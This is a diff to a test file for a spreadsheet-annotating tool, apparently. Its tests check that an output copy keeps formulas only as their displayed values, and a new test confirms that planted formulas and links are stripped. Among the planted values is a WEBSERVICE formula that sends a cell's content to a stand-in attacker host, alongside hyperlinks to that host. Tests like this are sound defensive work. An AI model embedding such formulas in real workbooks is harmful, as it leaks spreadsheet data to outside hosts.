@@ -122,7 +122,7 @@ test('the copy marks exactly the lagging rows of the district, each with a note 
   expect(marked).toBeGreaterThanOrEqual(5);
 });
 
-test('values, formulas and the other sheets of the submission are carried over unchanged', async () => {
+test('values and the other sheets of the submission are carried over unchanged, formulas as the value they showed', async () => {
   const { wb, input } = await annotate('2024-09', '臨平區');
   const original = new ExcelJS.Workbook();
   await original.xlsx.readFile(input);
@@ -131,7 +131,8 @@ test('values, formulas and the other sheets of the submission are carried over u
     const copy = wb.getWorksheet(source.name)!;
     source.eachRow((row, r) =>
       row.eachCell((cell, c) => {
-        expect([source.name, cell.address, copy.getCell(r, c).value]).toEqual([source.name, cell.address, cell.value]);
+        const shown = cell.type === ExcelJS.ValueType.Formula ? ((cell.value as { result?: ExcelJS.CellValue }).result ?? null) : cell.value;
+        expect([source.name, cell.address, copy.getCell(r, c).value]).toEqual([source.name, cell.address, shown]);
       }),
     );
   }
@@ -195,4 +196,42 @@ test('the copy cannot be written over the submission it is made from', async () 
     expect(run.stderr).toContain('就是輸入檔案');
   }
   expect(sha256(input)).toBe(before);
+});
+
+test('the copy holds values only: no formula and no link of the input survives, each cell keeps the value it showed', async () => {
+  const input = path.join(dir, '臨平區-links.xlsx');
+  const wb = new ExcelJS.Workbook();
+  await wb.xlsx.readFile(path.join(SUBMISSIONS_DIR, '2024-09', '臨平區.xlsx'));
+  const ws = wb.getWorksheet('進度報送表')!;
+  const { rows, lastCol } = templateRows(ws);
+  const [first, second, third] = [...rows.values()];
+  const planted = [
+    { row: first, value: { formula: 'WEBSERVICE("http://attacker.example/?"&A1)', result: '已核實' }, shown: '已核實' },
+    { row: second, value: { formula: 'HYPERLINK("http://attacker.example","點此查看")', result: '點此查看' }, shown: '點此查看' },
+    { row: third, value: { text: '詳見附件', hyperlink: 'http://attacker.example/file' }, shown: '詳見附件' },
+  ];
+  for (const p of planted) ws.getCell(p.row, lastCol).value = p.value as ExcelJS.CellValue;
+  const formulasBefore: string[] = [];
+  ws.eachRow((row) => row.eachCell((cell) => cell.type === ExcelJS.ValueType.Formula && formulasBefore.push(cell.address)));
+  expect(formulasBefore.length).toBeGreaterThan(planted.length); // 完成率 is a formula in the template too
+  await wb.xlsx.writeFile(input);
+
+  const output = path.join(dir, '臨平區-links-標注.xlsx');
+  const run = await runCli('annotate', input, '-o', output, '--db', db);
+  expect(run.code).toBe(0); // with a note that this file is not the one loaded
+  const out = new ExcelJS.Workbook();
+  await out.xlsx.readFile(output);
+  const live: string[] = [];
+  out.eachSheet((sheet) =>
+    sheet.eachRow((row) =>
+      row.eachCell((cell) => {
+        if (cell.type === ExcelJS.ValueType.Formula || cell.type === ExcelJS.ValueType.Hyperlink) live.push(`${sheet.name}!${cell.address}`);
+      }),
+    ),
+  );
+  expect(live).toEqual([]);
+  const copy = out.getWorksheet('進度報送表')!;
+  for (const p of planted) expect(copy.getCell(p.row, lastCol).value).toBe(p.shown);
+  const xml = fs.readFileSync(output).toString('latin1');
+  expect(xml).not.toContain('attacker.example');
 });
